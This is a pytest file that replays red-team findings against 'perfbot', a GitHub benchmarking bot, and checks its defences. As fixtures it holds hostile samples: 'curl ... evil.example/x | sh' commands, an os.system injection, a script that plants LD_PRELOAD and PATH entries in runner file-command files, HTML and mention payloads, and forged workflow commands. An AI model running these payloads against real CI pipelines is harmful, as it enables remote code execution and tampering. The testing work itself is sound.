"""The second red-team round (2026-12, security-2), findings 2-4 and 6-10, replayed as users run
perfbot: every command in a fresh process (``python -m perfbot``), the gate against the GitHub
fake served on 127.0.0.1, the rerun workflow's steps in order, and every posted body rendered
with cmark-gfm before it is called inert.
"""

from __future__ import annotations

import copy
import json
import os
import re
import sys
import textwrap
from pathlib import Path

import pytest

from freshkit import run_perfbot
from gfm import shape
from github_fake import load_event
from loopback import LoopbackGitHub
from test_rerun_e2e import read_outputs

BOT = "github-actions[bot]"
APPROVER = "maintainer"
FAKENET = "examples/fakenet"
README = f"{FAKENET}/README.md"
RUNNERS = [["self-hosted", "ascend", "910b"], ["self-hosted", "ascend", "910b", "8-cards"]]
BASE_CONFIG = {
    "rerun": {"runners": RUNNERS},
    "benchmarks": [
        {
            "name": "fakenet-1p",
            "readme": "README.md",
            "workdir": FAKENET,
            "row": 1,
            "command": ["python", "train.py", "--step-time", "0.412"],
            "log_format": "mindcv",
            "cards": 1,
            "batch_size": 64,
            "timeout": "10m",
            "runs_on": RUNNERS[0],
        },
        {
            "name": "fakenet-8p",
            "readme": "README.md",
            "workdir": FAKENET,
            "row": 2,
            "command": ["python", "train.py", "--log-style", "timemonitor"],
            "log": "msrun_log/worker_0.log",
            "cards": 8,
            "batch_size": 32,
            "timeout": "10m",
            "runs_on": RUNNERS[1],
        },
    ],
}
TRAIN = "print('training')\n"


def dump(data) -> str:
    """A config as text: JSON is YAML, with no anchors for shared values."""
    return json.dumps(data, indent=1) + "\n"


# --- running perfbot as the workflows do ---------------------------------------------------------


def gate(gh, tmp: Path, body: str, *, user: str = APPROVER, before=None):
    """A comment by ``user``, then the gate job (`perfbot command`) on its event, in a fresh
    process; ``before()`` runs between the two (a push while the job is queued)."""
    comment = gh.add_issue_comment(1, body, user=user)
    if before is not None:
        before()
    event = load_event("issue_comment_created")
    event["comment"].update(id=comment["id"], body=body)
    event["comment"]["user"]["login"] = event["sender"]["login"] = user
    name = f"gate-{comment['id']}"
    (tmp / f"{name}.json").write_text(json.dumps(event), encoding="utf-8")
    (tmp / f"{name}.output").write_text("", encoding="utf-8")
    env = {
        **gh.env(gh.WRITE_TOKEN),
        "GITHUB_EVENT_NAME": "issue_comment",
        "GITHUB_EVENT_PATH": str(tmp / f"{name}.json"),
        "GITHUB_OUTPUT": str(tmp / f"{name}.output"),
        "GITHUB_ACTIONS": "true",
    }
    got = run_perfbot(["command", "--config", ".perfbot.yml"], env, tmp)
    return got, read_outputs((tmp / f"{name}.output").read_text(encoding="utf-8")), comment


def replies(gh) -> list[str]:
    return [c["body"] for c in gh.issue_comments if c["user"] == BOT]


def reactions(gh, comment) -> list[str]:
    return [r["content"] for r in gh.reactions if r["subject"] == ("issue_comment", comment["id"])]


def workflow_commands(text: str) -> list[str]:
    """The lines of a job log GitHub's runner would act on as workflow commands: after trimming
    leading whitespace, ``::name ...::value`` or ``##[name ...]``; ``::stop-commands::TOKEN``
    turns them off until a line ``::TOKEN::`` (actions/runner, ActionCommandManager)."""
    found: list[str] = []
    stop = None
    for line in text.splitlines():
        t = line.strip()
        if stop is not None:
            if t == f"::{stop}::":
                stop = None
            continue
        m = re.match(r"::([A-Za-z-]+)(?: [^:]*)?::(.*)", t)
        if m and m[1] == "stop-commands":
            stop = m[2]
        elif m or t.startswith("##["):
            found.append(t)
    return found


def live(md: str, ours: int = 0) -> list[str]:
    """What renders live in ``md`` from the attacker's strings: links and images to
    evil.example, and mentions (beyond perfbot's own ``ours``: a reply's @addressee)."""
    s = shape(md)
    s.mentions -= ours
    bad = [h for h in s.hrefs if "evil.example" in h]
    if s.tags.get("img"):
        bad.append("<img>")
    if s.mentions:
        bad.append(f"{s.mentions} mention(s)")
    return bad


# --- finding 2: the ok-to-test reply names everything the approval lets run ----------------------


def _s2_config() -> dict:
    cfg = copy.deepcopy(BASE_CONFIG)
    one, eight = cfg["benchmarks"]
    one.update(log_format="regex", regex=r"time: (?P<s>[0-9.]+)s~$", timeout="6h",
               max_output_mb=100000000)  # fmt: skip
    eight["command"] = ["bash", "-c", "python train.py --log-style timemonitor " + "--x y " * 60
                        + "&& curl -s https://evil.example/x | sh"]  # fmt: skip
    for n in range(1, 31):
        cfg["benchmarks"].append(
            {
                **one,
                "name": f"fakenet-ablation-{n:02d}",
                "log_format": "mindcv",
                "command": ["python", "train.py", "--ablation", str(n)],
            }
        )
        del cfg["benchmarks"][-1]["regex"]
    cfg["benchmarks"].append(
        {
            **cfg["benchmarks"][-1],
            "name": "fakenet-zz-cache",
            "command": ["bash", "-c", "curl -s https://evil.example/x | sh"],
        }
    )
    return cfg


def test_2_the_approval_reply_names_every_changed_benchmark_key_and_file(tmp_path):
    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_contents("main", ".perfbot.yml", dump(BASE_CONFIG))
        train = f"{FAKENET}/train.py"
        pr = gh.add_pull(
            changes={train: (TRAIN, TRAIN + "import os; os.system('id')\n"),
                     "docs/x.md": ("a\n", "b\n")},
            contents={".perfbot.yml": dump(_s2_config())},
            fork="mallory",
        )  # fmt: skip
        got, _, _ = gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha}")
        assert got.returncode == 0, got.stderr
        (reply,) = replies(gh)
        # every changed key of the changed benchmark, with its whole value
        assert "- `fakenet-1p` (changed `timeout`, `max_output_mb`, `log_format`, `regex`)" in reply
        assert '  regex: "time: (?P<s>[0-9.]+)s~$"' in reply
        assert "  max_output_mb: 100000000" in reply
        # the whole command, never cut
        assert "&& curl -s https://evil.example/x | sh" in reply
        # every new benchmark: no "... and N more"
        for n in range(1, 31):
            assert f"- `fakenet-ablation-{n:02d}` (new)" in reply
        assert "- `fakenet-zz-cache` (new)" in reply and "more" not in reply.split("<details>")[0]
        # the code the commands run changed: the file is named, in the benchmarks' folder
        assert f"In the benchmarks' folders: `{train}`." in reply
        assert "Elsewhere: `docs/x.md`." in reply
        assert "same commands" not in reply
        assert "To withdraw this approval, delete your `/perfbot ok-to-test` comment" in reply
        assert live(reply, ours=1) == []  # the values are shown, never live
        assert shape(reply).tags["details"] == 1

        # the same files, settings unchanged: still no "the same commands"
        gh.set_contents("main", ".perfbot.yml", dump(_s2_config()))
        got, _, _ = gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha}")
        reply = replies(gh)[-1]
        assert "are the default branch `main`'s" in reply and "same commands" not in reply
        assert f"`{train}`" in reply and "The commands run this commit's code" in reply


def test_2b_with_approve_plan_only_an_approval_of_the_listed_plan_counts(tmp_path):
    policy = {**BASE_CONFIG, "rerun": {"runners": RUNNERS, "approve_plan": True}}
    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_contents("main", ".perfbot.yml", dump(policy))
        pr = gh.add_pull(changes={f"{FAKENET}/train.py": (TRAIN, TRAIN + "#\n")},
                         contents={".perfbot.yml": dump(_s2_config())}, fork="mallory")  # fmt: skip
        # the SHA alone is not an approval: the reply lists the plan and its digest
        gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha}")
        reply = replies(gh)[-1]
        assert reply.count("Not approved yet") == 1 and "- `fakenet-zz-cache` (new)" in reply
        (digest,) = re.findall(rf"/perfbot ok-to-test {pr.head_sha} plan=([0-9a-f]{{16}})", reply)
        assert live(reply, ours=1) == []
        got, out, _ = gate(gh, tmp_path, "/perfbot rerun fakenet-1p")
        assert out["run"] == "false" and "`plan=` digest" in replies(gh)[-1]
        # a made-up digest is not one either
        gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha} plan={'0' * 16}")
        assert "The plan `0000000000000000` you named is not this one" in replies(gh)[-1]
        _, out, _ = gate(gh, tmp_path, "/perfbot rerun fakenet-1p")
        assert out["run"] == "false"
        # the listed plan is
        gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha} plan={digest}")
        assert "✅ `maintainer` approved commit" in replies(gh)[-1]
        got, out, _ = gate(gh, tmp_path, "/perfbot rerun fakenet-1p")
        assert out["run"] == "true" and out["sha"] == pr.head_sha, got.stderr
        # what it was compared with changes: the approval no longer matches what would run
        policy["benchmarks"] = policy["benchmarks"][:1]
        gh.set_contents("main", ".perfbot.yml", dump(policy))
        _, out, _ = gate(gh, tmp_path, "/perfbot rerun fakenet-1p")
        assert out["run"] == "false"
        assert "no longer what this commit would run" in replies(gh)[-1]


# --- finding 3: nothing after the benchmark hangs ------------------------------------------------

MINDCV_LINE = (
    "[2026-11-30 10:00:{s:02d}] mindcv.utils.callbacks INFO - Epoch: [1/2], batch: [{k}/100], "
    "loss: 2.3, time: {t:.3f}s"
)
WRITE_LOG = textwrap.dedent(
    """\
    import os, sys
    os.makedirs("msrun_log", exist_ok=True)
    with open("msrun_log/worker_0.log", "w") as fh:
        for k in range(1, 41):
            t = 40.0 if k == 1 else 0.41
            fh.write("[2026-11-30 10:00:%02d] mindcv.utils.callbacks INFO - Epoch: [1/2], "
                     "batch: [%d/100], loss: 2.3, time: %.3fs\\n" % (k, k, t))
    """
)


def _bench_dir(tmp: Path, bench: dict, files: dict[str, str]) -> Path:
    work = tmp / "checkout"
    work.mkdir()
    cfg = {"benchmarks": [{"name": "b", "readme": "README.md", "row": 1, "cards": 1,
                           "batch_size": 64, **bench}]}  # fmt: skip
    (work / ".perfbot.yml").write_text(dump(cfg), encoding="utf-8")
    for path, text in files.items():
        (work / path).parent.mkdir(parents=True, exist_ok=True)
        (work / path).write_text(text, encoding="utf-8")
    return work


def test_3a_a_regex_that_backtracks_is_refused_before_anything_runs(tmp_path):
    line = MINDCV_LINE.format(s=1, k=10, t=0.412)
    work = _bench_dir(tmp_path, {"command": [sys.executable, "-c", f"print({line!r})"],
                                 "timeout": "6h", "regex": "(?P<s>(.+)+)~$"}, {})  # fmt: skip
    got = run_perfbot(["bench", "--name", "b", "--out", "r.json", "--quiet"], {}, work, timeout=60)
    assert got.returncode == 2
    assert "a quantifier inside a quantified group" in got.stderr
    assert not (work / "r.json").exists()


def test_3b_a_log_glob_never_walks_symlink_loops(tmp_path):
    work = _bench_dir(
        tmp_path,
        {"command": [sys.executable, "write_log.py"], "log": "**/worker_0.log",
         "log_format": "mindcv"},
        {"write_log.py": WRITE_LOG},
    )  # fmt: skip
    (work / "cache").mkdir()
    (work / "cache" / "a").symlink_to("..")
    (work / "cache" / "b").symlink_to("..")
    got = run_perfbot(["bench", "--name", "b", "--out", "r.json", "--quiet"], {}, work, timeout=60)
    assert got.returncode == 0, got.stderr
    result = json.loads((work / "r.json").read_text())
    assert result["status"] == "ok" and result["s_per_step"] == pytest.approx(0.41)
    assert result["log_path"] == str(work / "msrun_log" / "worker_0.log")


def test_3d_a_log_glob_stays_inside_the_workdir_and_stops_at_its_cap(tmp_path, monkeypatch):
    import time

    from perfbot.runner import collect

    outside = tmp_path / "outside.log"
    outside.write_text("secret\n")
    work = tmp_path / "w"
    (work / "logs").mkdir(parents=True)
    (work / "logs" / "worker_0.log").write_text("x\n")
    (work / "logs" / "worker_1.log").symlink_to(outside)  # out of the workdir: not a log
    (work / "logs" / "up").symlink_to(tmp_path)  # a folder link: never entered
    found, problem = collect._find_logs("**/*.log", work, time.time())
    assert problem == "" and found == [work / "logs" / "worker_0.log"]
    assert collect._find_logs("../outside.log", work, 0)[1].endswith(
        "inside the benchmark's workdir"
    )
    monkeypatch.setattr(collect, "MAX_LOG_ENTRIES", 2)
    assert "visited 2 entries" in collect._find_logs("**/*.log", work, 0)[1]


def test_3c_reading_the_log_has_a_deadline(tmp_path, monkeypatch):
    import time

    from perfbot.runner import bench, collect

    bench_ = {"command": [sys.executable, "write_log.py"], "log": "msrun_log/worker_0.log"}
    work = _bench_dir(tmp_path, bench_, {"write_log.py": WRITE_LOG})
    (spec,) = bench.load_benchmarks(work / ".perfbot.yml")
    monkeypatch.setattr(collect, "PARSE_DEADLINE", 1.0)
    monkeypatch.setattr(collect, "_measure_into", lambda *a: time.sleep(3600))
    r = bench.run_benchmark(spec, workdir=work, root=tmp_path, env=dict(os.environ))
    assert r.status == "no_samples" and "took longer than 1 s and was stopped" in r.message


# --- finding 4: the runner's versions in the review are quoted, and are the runner's -------------


def test_4_runner_versions_are_the_runners_and_inert_in_the_review(tmp_path):
    from test_rerun_e2e import BASE_README, CONFIG, HEAD_README
    from test_rerun_e2e import README as DIT

    payload = ("<img src=https://evil.example/p.png> cc @org/maintainers "
               "<a href=https://evil.example/fix>the maintainers' numbers</a>")  # fmt: skip
    (one,) = [copy.deepcopy(b) for b in CONFIG["benchmarks"] if b["name"] == "dit-1p"]
    one["env"] = {"ASCEND_TOOLKIT_HOME": "/toolkit"}  # into the checkout (see --root below)
    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_contents(
            "main", ".perfbot.yml", dump({"rerun": {"runners": [["self-hosted", "ascend"]]}})
        )
        gh.add_pull(
            changes={DIT: (BASE_README, HEAD_README)},
            contents={".perfbot.yml": dump({"benchmarks": [one]}),
                      "toolkit/aarch64-linux/ascend_toolkit_install.info": f"version={payload}\n"},
        )  # fmt: skip
        got, out, c = gate(gh, tmp_path, "/perfbot rerun dit-1p")
        assert out["run"] == "true", got.stderr
        work = tmp_path / "runner"
        for (at, path), data in gh.blobs.items():
            if at == out["sha"]:
                (work / path).parent.mkdir(parents=True, exist_ok=True)
                (work / path).write_bytes(data)
        # the runner's own install (its root is the checkout here, so the env's path reaches it)
        info = work / "usr/local/Ascend/ascend-toolkit/latest/aarch64-linux"
        info.mkdir(parents=True)
        (info / "ascend_toolkit_install.info").write_text("version=8.0.RC2\n")
        (work / "usr/local/Ascend/driver").mkdir(parents=True)
        (work / "usr/local/Ascend/driver/version.info").write_text(f"Version={payload}\n")
        results = tmp_path / "results"
        b = run_perfbot(["bench", "--config", ".perfbot.yml", "--name", "dit-1p", "--root",
                         str(work), "--out", str(results / "dit-1p.json"), "--quiet"],
                        {"GITHUB_SHA": out["sha"]}, work)  # fmt: skip
        assert b.returncode == 0, b.stderr
        env = json.loads((results / "dit-1p.json").read_text())["environment"]
        assert env["cann"] == "8.0.RC2" and env["driver"] is None  # not a version: dropped
        report_env = {**gh.env(gh.WRITE_TOKEN), "GITHUB_EVENT_NAME": "issue_comment",
                      "GITHUB_EVENT_PATH": str(tmp_path / f"gate-{c['id']}.json")}  # fmt: skip
        rep = run_perfbot(["report", "--results", str(results), "--pr", out["pr"], "--sha",
                           out["sha"], "--matrix", out["matrix"], "--config", ".perfbot.yml"],
                          report_env, tmp_path)  # fmt: skip
        assert rep.returncode == 0, rep.stderr
        (review,) = gh.reviews
        bodies = [review["body"]] + [c["body"] for c in gh.review_comments]
        # the runner's CANN, as code (the table of where each benchmark ran; the inline
        # suggestions quote it the same way: tests/runner/test_report.py)
        assert any("| `8.0.RC2` |" in b for b in bodies), bodies
        for body in bodies:
            assert live(body) == [] and "evil.example" not in body


# --- finding 6: the benchmark cannot set the job's later steps -----------------------------------

TAMPER = (
    textwrap.dedent(
        """\
    import glob, os, json
    cmds = os.path.join(os.environ["RUNNER_TEMP"], "_runner_file_commands")
    for f in glob.glob(os.path.join(cmds, "set_env_*")):
        open(f, "a").write("LD_PRELOAD=/tmp/x.so\\n")
    for f in glob.glob(os.path.join(cmds, "add_path_*")):
        open(f, "a").write("/tmp/evil-bin\\n")
    open(os.path.join(cmds, "set_env_new"), "w").write("X=1\\n")
    seen = {k: k in os.environ for k in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT")}
    print(json.dumps(seen))
    """
    )
    + WRITE_LOG
)


def test_6_file_command_files_are_restored_and_the_run_fails(tmp_path):
    temp = tmp_path / "_work" / "_temp"
    cmds = temp / "_runner_file_commands"
    cmds.mkdir(parents=True)
    names = {"GITHUB_ENV": "set_env_4e1b", "GITHUB_PATH": "add_path_4e1b",
             "GITHUB_OUTPUT": "set_output_4e1b", "GITHUB_STATE": "save_state_4e1b",
             "GITHUB_STEP_SUMMARY": "step_summary_4e1b"}  # fmt: skip
    for var, name in names.items():
        (cmds / name).write_text(f"KEEP_{var}=1\n")
    before = {p.name: p.read_bytes() for p in cmds.iterdir()}
    work = _bench_dir(tmp_path, {"command": [sys.executable, "tamper.py"],
                                 "log": "msrun_log/worker_0.log", "log_format": "mindcv"},
                      {"tamper.py": TAMPER})  # fmt: skip
    env = {var: str(cmds / name) for var, name in names.items()}
    env["RUNNER_TEMP"] = str(temp)
    got = run_perfbot(["bench", "--name", "b", "--out", "r.json", "--quiet"], env, work)
    assert got.returncode == 1, got.stderr
    assert {p.name: p.read_bytes() for p in cmds.iterdir()} == before
    result = json.loads((work / "r.json").read_text())
    assert result["status"] == "failed"
    assert "wrote to the job's file-command files (add_path_4e1b" in result["message"]
    seen = (work / "r.log").read_text().splitlines()[0]
    assert json.loads(seen) == {"GITHUB_ENV": False, "GITHUB_PATH": False, "GITHUB_OUTPUT": False}


# --- finding 7: no paste-ready approval of a commit pushed after the comment ---------------------


def test_7_a_bare_approval_refusal_offers_no_unseen_commit(tmp_path):
    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_contents("main", ".perfbot.yml", dump(BASE_CONFIG))
        gh.add_pull(changes={f"{FAKENET}/train.py": (TRAIN, TRAIN + "#\n")},
                    contents={".perfbot.yml": dump(BASE_CONFIG)},
                    fork="mallory")  # fmt: skip

        def push():
            gh.push(1, changes={f"{FAKENET}/train.py": TRAIN + "import os\n"})

        got, out, _ = gate(gh, tmp_path, "/perfbot ok-to-test", before=push)
        assert got.returncode == 0 and out["run"] == "false"
        pushed = gh.pulls[1].head_sha
        reply = replies(gh)[-1]
        assert pushed not in reply and "Copy the full SHA of the commit you have read" in reply


# --- finding 8: benchmark output is never a workflow command -------------------------------------

LOUD = textwrap.dedent(
    """\
    import sys
    print("::error file=README.md,line=9,title=perfbot verified::numbers approved")
    print("  ::add-mask::RuntimeError")
    print("##[error]legacy form")
    print("RuntimeError: out of memory", file=sys.stderr)
    sys.exit(1)
    """
)


def test_8_benchmark_output_reaches_no_workflow_command(tmp_path):
    from test_rerun_e2e import HEAD_README

    work = _bench_dir(tmp_path, {"command": [sys.executable, "loud.py"]},
                      {"loud.py": LOUD, "README.md": HEAD_README})  # fmt: skip
    env = {"GITHUB_ACTIONS": "true"}
    for quiet in ([], ["--quiet"]):
        got = run_perfbot(["bench", "--name", "b", "--out", "r.json", *quiet], env, work)
        assert got.returncode == 1
        assert "add-mask::RuntimeError" in got.stdout + got.stderr  # shown, as text
        assert workflow_commands(got.stdout) == [] and workflow_commands(got.stderr) == []
    rep = run_perfbot(["report", "--results", "r.json"], env, work)
    assert "::add-mask::RuntimeError" in rep.stdout  # the failed run's log tail
    assert workflow_commands(rep.stdout) == [] and workflow_commands(rep.stderr) == []


# --- finding 9: replies only to who may ask, and only so many ------------------------------------


def test_9_only_who_may_ask_gets_a_reply_and_only_so_many(tmp_path):
    from perfbot.github.command import MAX_REPLIES, REPLY_MARKER

    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_permission("reader", "read")
        gh.set_contents("main", ".perfbot.yml", dump(BASE_CONFIG))
        gh.add_pull(changes={README: ("a\n", "b\n")},
                    contents={".perfbot.yml": dump(BASE_CONFIG)})  # fmt: skip
        for body in ("/perfbot help", "/perfbot", "/perfbot x", "/perfbot rerun",
                     "/perfbot ok-to-test"):  # fmt: skip
            got, out, c = gate(gh, tmp_path, body, user="reader")
            assert got.returncode == 0 and out["run"] == "false"
            assert reactions(gh, c) == ["confused"]
        assert replies(gh) == []
        got, _, _ = gate(gh, tmp_path, "/perfbot help")
        assert len(replies(gh)) == 1  # who may ask gets the answer
        for _ in range(MAX_REPLIES - 1):
            gh.add_issue_comment(1, f"@x earlier\n\n{REPLY_MARKER}", user=BOT, user_type="Bot")
        got, _, c = gate(gh, tmp_path, "/perfbot help")
        assert got.returncode == 0 and len(replies(gh)) == MAX_REPLIES
        assert reactions(gh, c) == ["eyes"]


# --- finding 10: hostile configs are refused with a reason, never a crash ------------------------


def test_10a_a_deeply_nested_regex_gets_a_reply_not_a_crash(tmp_path):
    cfg = copy.deepcopy(BASE_CONFIG)
    cfg["benchmarks"][0].update(log_format="regex",
                                regex="(?:" * 1000 + "(?P<s>[0-9.]+)" + ")" * 1000)  # fmt: skip
    with LoopbackGitHub() as gh:
        gh.set_permission(APPROVER, "maintain")
        gh.set_contents("main", ".perfbot.yml", dump(BASE_CONFIG))
        pr = gh.add_pull(changes={README: ("a\n", "b\n")},
                         contents={".perfbot.yml": dump(cfg)}, fork="mallory")  # fmt: skip
        got, _, _ = gate(gh, tmp_path, f"/perfbot ok-to-test {pr.head_sha}")
        assert got.returncode == 0, got.stderr
        assert "has problems: `/perfbot rerun` will refuse it" in replies(gh)[-1]
        got, out, _ = gate(gh, tmp_path, "/perfbot rerun fakenet-1p")
        assert got.returncode == 0 and out["run"] == "false"
        assert "regex" in replies(gh)[-1] and "at most 500" in replies(gh)[-1]


def test_10b_a_benchmark_name_ending_in_a_newline_is_refused(tmp_path):
    cfg = copy.deepcopy(BASE_CONFIG)
    cfg["benchmarks"][1]["name"] = "fakenet-1p\n"
    (tmp_path / ".perfbot.yml").write_text(dump(cfg), encoding="utf-8")
    got = run_perfbot(["plan", "--config", ".perfbot.yml"], {}, tmp_path)
    assert got.returncode == 2 and "name: use letters, digits" in got.stderr


def test_6b_a_file_command_file_too_large_to_keep_is_still_checked(tmp_path, monkeypatch):
    from perfbot.runner import jobguard

    cmds = tmp_path / "_runner_file_commands"
    cmds.mkdir()
    small, large = cmds / "set_env_1", cmds / "step_summary_1"
    small.write_text("A=1\n")
    large.write_text("x" * 100)
    monkeypatch.setattr(jobguard, "_MAX_SNAPSHOT", 50)
    env = {
        "GITHUB_ENV": str(small),
        "GITHUB_STEP_SUMMARY": str(large),
        "RUNNER_TEMP": str(tmp_path),
    }
    before = jobguard._snapshot(jobguard._file_command_paths(env))
    small.write_text("A=1\nLD_PRELOAD=x\n")
    with large.open("a") as fh:
        fh.write("more")
    assert jobguard._restore_file_commands(before, env) == ["set_env_1", "step_summary_1"]
    assert small.read_text() == "A=1\n"  # kept, so restored
    assert jobguard._restore_file_commands(jobguard._snapshot([small, large]), env) == []


def test_8b_no_line_of_perfbots_own_log_output_is_a_workflow_command():
    from perfbot.github.markdown import no_command

    text = "ok\n  ::error x\r::add-mask::y\r\n##[warning]z\n::stop-commands::t\nfine ::x::"
    assert workflow_commands(no_command(text)) == []
    assert no_command(text).replace(" ", "") == text.replace(" ", "")  # only spaces added
